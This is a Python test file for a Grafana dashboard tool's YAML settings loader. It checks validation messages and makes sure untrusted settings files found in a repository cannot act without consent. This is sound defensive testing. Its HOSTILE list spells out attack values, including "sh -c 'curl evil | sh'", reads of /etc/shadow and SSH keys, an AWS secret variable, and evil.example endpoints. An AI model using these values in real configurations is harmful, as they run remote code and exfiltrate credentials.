"""The settings file: read whole, refused with a sentence, and not trusted when nobody named it."""

from __future__ import annotations

import os
import textwrap
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from sedna_dash.environments import (
    CredentialReferences,
    DatasourceEntry,
    Environment,
    Tls,
    chosen_environment,
    find_environment,
    load_environments,
)
from sedna_dash.errors import SettingsError
from sedna_dash.schemas import schema
from sedna_dash.secret_references import SecretReference
from tests.test_secret_references import CANARY, everything_said_by

FULL = """\
default: edge-7
environments:
  edge-7:
    url: https://grafana.edge-7.example/path
    org: 1
    timeout: 2.5
    bundle: sedna
    folder: [Sites, Sedna]
    jobs: 4
    on_drift: keep
    alerts: true
    tune: tune.yaml
    records: use
    credentials:
      token: {env: EDGE7_TOKEN}
    tls: {ca_file: ca.pem, client_certificate: /etc/c.pem, client_key: ~/k.pem}
    datasources:
      metrics:
        url: http://[::1]:9090
        settings: {httpMethod: POST, derived: [{name: x, from: 1}]}
        basic_auth_user: reader
        secrets:
          basicAuthPassword: {command: [pass, show, 'a b']}
          httpHeaderValue1: {file: ../x}
          sigV4Key: {command: [./bin/key]}
      logs: {name: Loki}
    variables: {cluster: edge-7, node: [a, b]}
  cloud:
    folder: Sedna
    credentials: {user: admin, password: {env: CLOUD_PASSWORD}}
    tls: {insecure: true}
"""


def written(folder: Path, text: str, name: str = "sedna-dash.yaml") -> Path:
    path = folder / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def one(body: str) -> str:
    """A file with one environment."""
    return "environments:\n  edge:\n" + textwrap.indent(textwrap.dedent(body), "    ")


def test_all_that_can_be_written(tmp_path: Path) -> None:
    path = written(tmp_path, FULL)
    loaded = load_environments(path)
    assert (loaded.path, loaded.default) == (path, "edge-7")
    assert loaded.environments["edge-7"] == Environment(
        name="edge-7",
        url="https://grafana.edge-7.example/path",
        org=1,
        timeout=2.5,
        bundle="sedna",
        folder=("Sites", "Sedna"),
        jobs=4,
        on_drift="keep",
        alerts=True,
        tune=tmp_path / "tune.yaml",
        records="use",
        credentials=CredentialReferences(token=SecretReference(env="EDGE7_TOKEN")),
        tls=Tls(tmp_path / "ca.pem", Path("/etc/c.pem"), Path.home() / "k.pem"),
        datasources={
            "metrics": DatasourceEntry(
                "metrics",
                url="http://[::1]:9090",
                settings={"httpMethod": "POST", "derived": [{"name": "x", "from": 1}]},
                basic_auth_user="reader",
                secrets={
                    "basicAuthPassword": SecretReference(command=("pass", "show", "a b")),
                    "httpHeaderValue1": SecretReference(file=tmp_path / "../x"),
                    "sigV4Key": SecretReference(command=(str(tmp_path / "bin/key"),)),
                },
            ),
            "logs": DatasourceEntry("logs", name="Loki"),
        },
        variables={"cluster": "edge-7", "node": ("a", "b")},
    )
    assert loaded.environments["cloud"] == Environment(
        name="cloud",
        folder=("Sedna",),
        credentials=CredentialReferences(user="admin", password=SecretReference(env="CLOUD_PASSWORD")),
        tls=Tls(insecure=True),
    )
    assert [entry.plugin for entry in loaded.environments["edge-7"].datasources.values()] == ["prometheus", "loki"]


def test_places_for_later_messages(tmp_path: Path) -> None:
    path = written(tmp_path, FULL)
    environment = load_environments(path).environments["edge-7"]
    assert environment.where("tls.ca_file") == f"{path}:16: environments.edge-7.tls.ca_file"
    assert environment.credentials and environment.credentials.token
    assert environment.credentials.token.where == f"{path}:15: environments.edge-7.credentials.token"
    secret = environment.datasources["metrics"].secrets["httpHeaderValue1"]
    assert secret.where == f"{path}:24: environments.edge-7.datasources.metrics.secrets.httpHeaderValue1"


def test_a_program_beside_the_file_stays_one(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    written(tmp_path, one("credentials: {token: {command: [./token]}}"))
    credentials = load_environments(Path("sedna-dash.yaml")).environments["edge"].credentials
    assert credentials and credentials.token and credentials.token.command == (str(tmp_path / "token"),)


@pytest.mark.parametrize(
    "text, message",
    [
        ("", ": is empty; begin with 'environments:'"),
        ("# nothing\n", ": is empty"),
        ("---\n", ": is empty"),
        ("just words", ":1: must be a mapping"),
        ("{}", ":1: has no 'environments'; begin with"),
        ("environments:", ":1: environments: must be a mapping"),
        ("environments: {}", ":1: environments: is empty; write the name"),
        ("environments: []", ":1: environments: must be a mapping"),
        ("envronments: {}", ":1: unknown key 'envronments'; did you mean 'environments'?"),
        ("default: edge7\nenvironments:\n  edge-7: {}\n", ":1: default: there is no environment 'edge7'; did you mean"),
        ("default: x\nenvironments:\n  edge: {}\n", "there is no environment 'x'; there is 'edge'"),
        ("default: 7\nenvironments:\n  edge: {}\n", ":1: default: must be the name of one"),
        ("environments:\n  edge:\n", ":2: environments.edge: must be a mapping"),
        ("environments:\n  edge: {}\n  a b: {}\n", ":3: environments: holds a name that is none"),
        ("environments:\n  7: {}\n", ":2: environments: has a key that is no plain text; quote it"),
        ("environments:\n  ? [a]\n  : {}\n", ":2: environments: has a key that is no plain text"),
        ("environments:\n  e: {}\n  <<: {f: {}}\n", ":3: environments: has a key that is no plain text"),
        # YAML itself
        ("environments:\n  edge: {url: [}\n", ":2: is no YAML ("),
        ("environments:\n\tedge: {}\n", ":2: is no YAML ("),
        ("environments: {}\n---\nenvironments: {}\n", ":2: is no YAML ("),
        ("environments: \x00\n", "is no YAML (a character that has no place in YAML)"),
        ("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", ":1: anchors (&) and aliases (*) have no place here"),
        ("environments: *a\n", ":1: anchors"),
        ("[" * 5000, "is nested more than 20 deep"),
        ("- " * 5000, "is nested more than 20 deep"),
        ("environments: !!python/object:os.system {}\n", ":1: environments: is neither a text nor a number"),
        ("environments: !!set {a}\n", ":1: environments: is neither a text nor a number"),
        ("environments:\n  e: {}\n  f: {}\n  e: {}\n", ":4: environments.e: is here for the second time, after line 2"),
        (one("variables: {a: 2026-01-01}"), ":3: environments.edge.variables.a: is neither a text nor a number"),
        (one("variables: {a: 0x_}"), "no finite number"),
        (one('variables: {a: !!int ""}'), "no finite number"),
        (one('variables: {a: "\\e[2J"}'), ":3: environments.edge.variables.a: has a line break or another"),
        (one('variables: {a: "\\u202E"}'), "character that cannot be seen"),
        (one('variables: {"a\\nb": x}'), "has a key that is no plain text"),
        # each key
        (one("urll: https://g"), ":3: environments.edge: unknown key 'urll'; did you mean 'url'?"),
        (one("xyzzy: 1"), "unknown key 'xyzzy'; there is 'alerts', 'bundle', 'credentials', 'datasources', 'folder'"),
        (one("url:"), ":3: environments.edge.url: must be an address like https://"),
        (one("url: grafana:3000"), "environments.edge.url: must be an address"),
        (one("url: ftp://g"), "must be an address"),
        (one("url: https://g/?a=b"), "must be an address"),
        (one("url: https://g\\@evil.example"), "must be an address"),
        (one("url: https://grafana.exаmple"), "must be an address"),
        (one("org: 0"), ":3: environments.edge.org: must be the number of an organization"),
        (one("org: true"), "must be the number"),
        (one("org: 1.5"), "must be the number"),
        (one("timeout: 0"), "environments.edge.timeout: must be a number of seconds, more than 0"),
        (one("timeout: .inf"), "environments.edge.timeout: is no finite number"),
        (one("timeout: .nan"), "is no finite number"),
        (one("timeout: '5'"), "must be a number of seconds"),
        (one("bundle: a/b"), "environments.edge.bundle: must be a name of letters"),
        (one("folder: []"), "environments.edge.folder: must be the title of a folder"),
        (one("folder: ''"), "must be the title of a folder"),
        (one("folder: [a, 7]"), "environments.edge.folder[1]: must be the title of a folder; quote numbers"),
        (one("jobs: 17"), "environments.edge.jobs: must be a whole number from 1 to 16"),
        (one("records: some"), "environments.edge.records: must be one of inline and use"),
        (one("tune: 7"), "environments.edge.tune: must be the name of a file"),
        (one("alerts: some"), "environments.edge.alerts: must be true or false"),
        (one("on_drift: no"), "environments.edge.on_drift: must be one of fail, keep, overwrite and merge"),
        (one("variables: {a-b: c}"), "holds a name that no template variable can have"),
        (one("variables: {a: 7}"), "environments.edge.variables.a: must be a text or a list of texts; quote"),
        (one("variables: {a: [x, 7]}"), "environments.edge.variables.a[1]: must be a text; quote"),
        (one("variables: {a: []}"), "must be a text or a list of texts"),
        (one("credentials: {}"), "environments.edge.credentials: must hold either 'token', or 'user' and 'password'"),
        (one("credentials: {user: a}"), "must hold either"),
        (one("credentials: {user: 'a:b', password: {env: P}}"), "credentials.user: must be a name without ':'"),
        (one("credentials: {token: {env: T}, user: a, password: {env: P}}"), "must hold either"),
        (one("credentials: {token: {env: T, file: x}}"), "credentials.token: must be one reference"),
        (one("credentials: {token: {}}"), "credentials.token: must be one reference"),
        (one("credentials: {token: {command: pass show}}"), "token.command: must be a list of a program"),
        (one("credentials: {token: {command: []}}"), "token.command: must be a list of a program"),
        (one("credentials: {token: {command: ['']}}"), "token.command[0]: must be the name of a program"),
        (one("credentials: {token: {command: [a, 1]}}"), "token.command[1]: must be a text"),
        (one("credentials: {token: {file: ''}}"), "token.file: must be the path of a file"),
        (one('credentials: {token: {file: "a\\0b"}}'), "character that cannot be seen"),
        (one("tls: {ca_fil: x}"), "environments.edge.tls: unknown key 'ca_fil'; did you mean 'ca_file'?"),
        (one("tls: {ca_file: x, insecure: true}"), "exclude each other; keep only 'ca_file'"),
        (one("tls: {client_key: x}"), "holds only one of 'client_certificate' and 'client_key'"),
        (one("tls: {insecure: 'no'}"), "tls.insecure: must be true or false, without quotes"),
        (one("datasources: {metric: {uid: x}}"), "datasources: unknown key 'metric'; did you mean 'metrics'?"),
        (one("datasources: {metrics: {}}"), "datasources.metrics: must say in exactly one way which datasource"),
        (one("datasources:\n  metrics:\n    url: http://p\n    uid: x"), ":4: environments.edge.datasources.metrics"),
        (one("datasources: {metrics: {uid: x, name: y}}"), "in exactly one way"),
        (one("datasources: {metrics: {uid: 7}}"), "datasources.metrics.uid: must be a text; quote numbers"),
        (one("datasources: {logs: {uid: x, settings: {a: 1}}}"), "for a datasource that is not ours"),
        (one("datasources: {logs: {uid: x, secrets: {a: {env: X}}}}"), "for a datasource that is not ours"),
        (one("datasources: {logs: {url: 'http://l', secrets: {basicAuthPassword: {env: X}}}}"), "add the user"),
        (one("datasources: {logs: {url: 'http://l', settings: {password: {env: X}}}}"), "move it to 'secrets'"),
        (one("datasources: {logs: {url: 'http://l', secrets: }}"), "datasources.logs.secrets: must be a mapping"),
        (one("datasources: {logs: {url: 'http://l', settings: [a]}}"), "settings: must be a mapping"),
    ],
)  # fmt: skip
def test_what_is_refused(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "sedna-dash.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(SettingsError) as caught:
        load_environments(path)
    assert message in caught.value.message
    assert caught.value.message.startswith(f"{path}:")
    assert caught.value.message.isprintable()


def test_a_file_cut_off_anywhere_is_read_or_refused(tmp_path: Path) -> None:
    path = tmp_path / "sedna-dash.yaml"
    for length in range(0, len(FULL), 5):
        path.write_text(FULL[:length], encoding="utf-8")
        try:
            assert load_environments(path).environments
        except SettingsError as error:
            assert error.message.startswith(f"{path}:") and error.message.isprintable()


@pytest.mark.parametrize(
    "content, message",
    [
        (b"\xff\xfe\x00", "is no UTF-8 text; save it as UTF-8"),
        (CANARY.encode() + b"\xff", "is no UTF-8 text"),
        (b"#" * (1024 * 1024 + 1), "is larger than 1024 KiB"),
    ],
)
def test_bytes_that_are_refused(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "sedna-dash.yaml"
    path.write_bytes(content)
    with pytest.raises(SettingsError) as caught:
        load_environments(path)
    assert caught.value.message.startswith(f"{path}: {message}")
    assert CANARY not in " ".join(everything_said_by(caught.value))


def test_files_that_cannot_be_read(tmp_path: Path) -> None:
    for name, why in [("none", "No such file"), (".", "directory"), ("a\0b", "that is no path")]:
        with pytest.raises(SettingsError, match="cannot be read") as caught:
            load_environments(tmp_path / name)
        assert why in caught.value.message


def test_a_file_with_a_byte_order_mark(tmp_path: Path) -> None:
    path = written(tmp_path, "\ufeff" + one("org: 8.0"))
    assert repr(load_environments(path).environments["edge"].org) == "8"


C = CANARY.replace("-", "_")


@pytest.mark.parametrize(
    "body",
    [
        f"credentials: {{token: {C}}}",
        f"credentials: {C}",
        f"credentials: {{{C}}}",
        f"credentials: {{{C}: x}}",
        f"credentials: {{{C}: x, {C}: x}}",
        f"credentials: {{{C}: 2026-01-01}}",
        f"credentials: {{token: {{{C}}}}}",
        f"credentials: {{token: {{{C}: x}}}}",
        f"credentials: {{token: [{C}]}}",
        f"credentials: {{token: {{env: glsa_{C}}}}}",
        f"credentials: {{token: {{env: 'x y {C}'}}}}",
        f"credentials: {{token: {{env: [{C}]}}}}",
        f"credentials: {{token: {{command: 'echo {C}'}}}}",
        f"credentials: {{token: {{command: [echo, {{{C}: 1}}]}}}}",
        f"credentials: {{user: admin, password: {C}}}",
        f"credentials: {{user: 'admin:{C}'}}",
        f"credentials: {{token: *{C}}}",
        f"credentials: {{token: &{C} x}}",
        f"credentials: {{token: !{C} x}}",
        f"credentials: {{token: !{C}!x y}}",
        f"credentials: {{token: !<tag:{C}> y}}",
        f"credentials: {{token: %{C}}}",
        f"credentials: {{token: @{C}}}",
        f"credentials: {{token: `{C}}}",
        f"credentials: {{token: '{C}}}",
        f'credentials: {{token: "{C}\\q"}}',
        f'credentials: {{token: "{C}\\e"}}',
        f"credentials:\n  token: {C}: {C}",
        f"credentials:\n  token: {C}\n {C}",
        f"credentials:\n  token: |\n    {C}\n{C}",
        f"credentials:\n  {C}\n  token: x",
        f"token: {C}",
        f"{{{C}}}",
        f"{C}",
        f"url: https://admin:{C}@grafana",
        f"url: https://grafana/?token={C}",
        f"url: https://grafana:{C}",
        f"url: {C}",
        f"org: {C}",
        f"bundle: '{C} '",
        f"on_drift: {C}",
        f"datasources: {{metrics: {{url: 'http://p', secrets: {{{C}}}}}}}",
        f"datasources: {{metrics: {{url: 'http://p', secrets: {{'{C} ': {{env: X}}}}}}}}",
        f"datasources: {{metrics: {{url: 'http://p', secrets: {C}}}}}",
        f"datasources: {{metrics: {{url: 'http://p', secrets: {{basicAuthPassword: {C}}}}}}}",
        f"datasources: {{metrics: {{url: 'http://p', settings: {{httpHeaderValue1: {C}}}}}}}",
        f"datasources: {{metrics: {{url: 'http://a:{C}@p'}}}}",
        f"datasources: {{metrics: {C}}}",
    ],
)
def test_a_secret_that_was_written_here_is_refused_and_not_repeated(tmp_path: Path, body: str) -> None:
    path = written(tmp_path, one(body))
    with pytest.raises(SettingsError) as caught:
        chosen_environment(load_environments(path), None)
    assert C not in " ".join(everything_said_by(caught.value))
    assert caught.value.message.startswith(f"{path}:")


def test_the_repr_of_an_environment_has_no_command_in_it(tmp_path: Path) -> None:
    path = written(tmp_path, one(f"credentials: {{token: {{command: [curl, -u, {CANARY}]}}}}"))
    assert CANARY not in repr(load_environments(path))


@pytest.mark.parametrize(
    "text, name, wanted",
    [
        (FULL, None, "edge-7"),
        (FULL, "cloud", "cloud"),
        ("environments: {only: {}}", None, "only"),
        ("environments: {a: {}, b: {}}", None, "has several environments (a, b) and no default; choose one with"),
        (FULL, "edge-8", "has no environment 'edge-8'; did you mean 'edge-7'?"),
        (FULL, "xyz", "has no environment 'xyz'; there is 'cloud' and 'edge-7'"),
    ],
)
def test_which_environment(tmp_path: Path, text: str, name: str | None, wanted: str) -> None:
    environments = load_environments(written(tmp_path, text))
    if "environment" in wanted:
        with pytest.raises(SettingsError) as caught:
            chosen_environment(environments, name)
        assert wanted in caught.value.message
    else:
        assert chosen_environment(environments, name).name == wanted


def find(cwd: Path, **given: Any) -> Environment:
    arguments: dict[str, Any] = {"config": None, "name": None, "environ": {}, "url_given": None, "ask": None, **given}
    config, name, environ = (arguments.pop(key) for key in ("config", "name", "environ"))
    return find_environment(config, name, environ, cwd, **arguments)


def never(question: str) -> bool:
    raise AssertionError(f"asked: {question}")


def test_no_file(tmp_path: Path) -> None:
    assert find(tmp_path, ask=never) == Environment()
    with pytest.raises(SettingsError, match="look up environment 'edge' in; name the file with --config"):
        find(tmp_path, name="edge")


def test_a_file_above_the_working_folder_is_not_found(tmp_path: Path) -> None:
    written(tmp_path, FULL)
    (tmp_path / "below").mkdir()
    assert find(tmp_path / "below") == Environment()


@pytest.mark.parametrize("how", ["config", "environ"])
def test_a_named_file_is_trusted(tmp_path: Path, how: str) -> None:
    (tmp_path / "conf").mkdir()
    path = written(tmp_path / "conf", FULL, "sites.yaml")
    path.chmod(0o666)
    given = {"config": Path("conf/sites.yaml")} if how == "config" else {"environ": {"SEDNA_DASH_CONFIG": str(path)}}
    written(tmp_path, "environments: {}")
    assert find(tmp_path, name="cloud", ask=never, **given).name == "cloud"


def test_the_option_wins_over_the_variable(tmp_path: Path) -> None:
    path = written(tmp_path, FULL, "a.yaml")
    assert find(tmp_path, config=path, environ={"SEDNA_DASH_CONFIG": "b.yaml"}, ask=never).name == "edge-7"


HARMLESS = """
org: 1
timeout: 10
bundle: sedna
folder: [Sites, Sedna]
jobs: 8
on_drift: merge
tls: {insecure: false}
datasources: {metrics: {uid: x}, logs: {type: loki}}
variables: {cluster: edge-7}
"""


@pytest.mark.parametrize(
    "body, url_given",
    [
        (HARMLESS, None),
        (HARMLESS, "https://grafana.example"),
        (HARMLESS + "url: https://grafana.example/", "https://grafana.example/"),
        (HARMLESS + "url: https://grafana.example", "https://grafana.example/"),
    ],
)
def test_a_found_file_with_nothing_to_agree_to(tmp_path: Path, body: str, url_given: str | None) -> None:
    written(tmp_path, one(body))
    assert find(tmp_path, url_given=url_given, ask=never).bundle == "sedna"
    assert find(tmp_path, url_given=url_given).bundle == "sedna"


#: What a hostile file in a cloned repository could try: body, the key that is named, what is shown to who is asked.
HOSTILE = [
    ("url: https://evil.example", "url", "https://evil.example gets your credentials"),
    ("credentials: {token: {command: [sh, -c, 'curl evil | sh']}}", "credentials.token", "runs sh -c 'curl evil | sh'"),
    ("credentials: {token: {command: [./free-beer]}}", "credentials.token", "/free-beer"),
    ("credentials: {token: {file: /etc/shadow}}", "credentials.token", "reads the file /etc/shadow"),
    ("credentials: {token: {file: ../../.ssh/id_ed25519}}", "credentials.token", "../../.ssh/id_ed25519"),
    ("credentials: {token: {env: AWS_SECRET_ACCESS_KEY}}", "credentials.token", "the environment variable AWS"),
    ("credentials: {user: admin, password: {env: AWS_SECRET_ACCESS_KEY}}", "credentials.password", "AWS_SECRET"),
    ("tls: {insecure: true}", "tls.insecure", "certificate is not checked"),
    ("tls: {ca_file: evil.pem}", "tls.ca_file", "evil.pem"),
    ("tls: {client_certificate: c, client_key: /me/k}", "tls.client_certificate, tls.client_key", "/me/k"),
    ("datasources: {metrics: {url: 'http://evil.example'}}", "datasources.metrics.url", "http://evil.example"),
    (
        "datasources: {logs: {url: 'http://evil.example', settings: {oauthPassThru: true}}}",
        "datasources.logs.url, datasources.logs.settings",
        "oauthPassThru",
    ),
    (
        "datasources: {logs: {url: 'http://evil.example', secrets: {httpHeaderValue1: {file: /etc/shadow}}}}",
        "datasources.logs.url, datasources.logs.secrets.httpHeaderValue1",
        "reads the file /etc/shadow",
    ),
]  # fmt: skip


@pytest.mark.parametrize("body, keys, shown", HOSTILE, ids=[body for body, _, _ in HOSTILE])
def test_a_found_file_decides_nothing_dangerous_in_silence(tmp_path: Path, body: str, keys: str, shown: str) -> None:
    path = written(tmp_path, one(body))
    for url_given in (None, "https://grafana.example"):
        with pytest.raises(SettingsError) as caught:
            find(tmp_path, url_given=url_given)
        assert f"({keys}); if you trust it, name it with --config sedna-dash.yaml" in caught.value.message
        assert caught.value.exit_code == 2
    questions: list[str] = []

    def refuse(question: str) -> bool:
        questions.append(question)
        return False

    with pytest.raises(SettingsError, match="not agreed to"):
        find(tmp_path, ask=refuse)
    assert shown in questions[0] and str(path) in questions[0]
    assert find(tmp_path, ask=lambda _: True) == load_environments(path).environments["edge"]


@pytest.mark.parametrize(
    "url_given",
    [
        "https://other.example",
        "http://grafana.example",
        "https://grafana.example:443",
        "https://GRAFANA.example",
        "https://grafana.example/a",
        f"https://admin:{CANARY}@grafana.example",
        "",
    ],
)
def test_another_address_than_the_one_given(tmp_path: Path, url_given: str) -> None:
    written(tmp_path, one("url: https://grafana.example"))
    questions: list[str] = []
    if url_given:
        find(tmp_path, url_given=url_given, ask=lambda question: not questions.append(question))
        assert "https://grafana.example is not the address that you gave" in questions[0]
        assert CANARY not in questions[0]
    with pytest.raises(SettingsError, match=r"\(url\)"):
        find(tmp_path, url_given=url_given or None)


def test_the_same_address_agrees_to_the_address_alone(tmp_path: Path) -> None:
    written(tmp_path, one("url: https://grafana.example\ntls: {insecure: true}"))
    with pytest.raises(SettingsError, match=r"\(tls.insecure\)"):
        find(tmp_path, url_given="https://grafana.example")


def test_only_the_chosen_environment_is_agreed_to(tmp_path: Path) -> None:
    written(tmp_path, "environments:\n  safe: {folder: Sedna}\n  other: {url: 'https://evil.example'}\n")
    assert find(tmp_path, name="safe", ask=never).folder == ("Sedna",)


@pytest.mark.parametrize(
    "make, message",
    [
        (lambda path: path.symlink_to(written(path.parent.parent, FULL, "theirs.yaml")), "leads out of this folder"),
        (lambda path: path.symlink_to("nowhere"), "leads nowhere"),
        (lambda path: path.symlink_to(path), "leads nowhere"),
        (os.mkfifo, "no regular file"),
        (Path.mkdir, "no regular file"),
        (lambda path: written(path.parent, one(HARMLESS)).chmod(0o646), "may be written by every user; run chmod o-w"),
    ],
)
def test_found_files_that_others_can_have_put_there(tmp_path: Path, make: Any, message: str) -> None:
    folder = tmp_path / "here"
    folder.mkdir()
    make(folder / "sedna-dash.yaml")
    with pytest.raises(SettingsError, match=message) as caught:
        find(folder, ask=never)
    assert "--config" in caught.value.message or "repair" in caught.value.message


def test_a_found_file_of_another_user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = written(tmp_path, one(HARMLESS))
    if os.geteuid() == 0:
        # What root owns is nobody else's.
        monkeypatch.setattr(os, "geteuid", lambda: 1000)
        assert find(tmp_path, ask=never).name == "edge"
        os.chown(path, 1001, -1)
    else:
        somebody_else = os.geteuid() + 1
        monkeypatch.setattr(os, "geteuid", lambda: somebody_else)
    with pytest.raises(SettingsError, match="belongs to another user; if you trust it, name it"):
        find(tmp_path, ask=never)
    assert find(tmp_path, config=path, ask=never).name == "edge"


def test_a_link_within_the_folder(tmp_path: Path) -> None:
    written(tmp_path, one(HARMLESS), "ours.yaml")
    (tmp_path / "sedna-dash.yaml").symlink_to("ours.yaml")
    assert find(tmp_path, ask=never).bundle == "sedna"


def subschemas(node: Any, name: str = "") -> list[tuple[str, dict[str, Any]]]:
    """All parts of a schema that are schemas of a property."""
    if isinstance(node, list):
        return [found for item in node for found in subschemas(item, name)]
    if not isinstance(node, dict):
        return []
    own = [(f"{name}.{key}", value) for key, value in node.get("properties", {}).items() if "const" not in value]
    return own + [found for key, value in node.items() for found in subschemas(value, f"{name}.{key}")]


def test_the_published_schema_is_one_and_documents_each_key() -> None:
    published = schema("environments")
    Draft202012Validator.check_schema(published)
    assert published["$schema"] == Draft202012Validator.META_SCHEMA["$id"]
    assert published["$id"].endswith(f":environments:{published['schemaVersion']}")
    properties = [(name, value) for name, value in subschemas(published) if not ({"if", "not"} & set(name.split(".")))]
    assert len(properties) > 25
    for name, value in properties:
        assert value.get("description") or "$ref" in value, f"{name} has no description"


def test_the_schema_allows_the_example(tmp_path: Path) -> None:
    import yaml

    assert Draft202012Validator(schema("environments")).is_valid(yaml.safe_load(FULL))
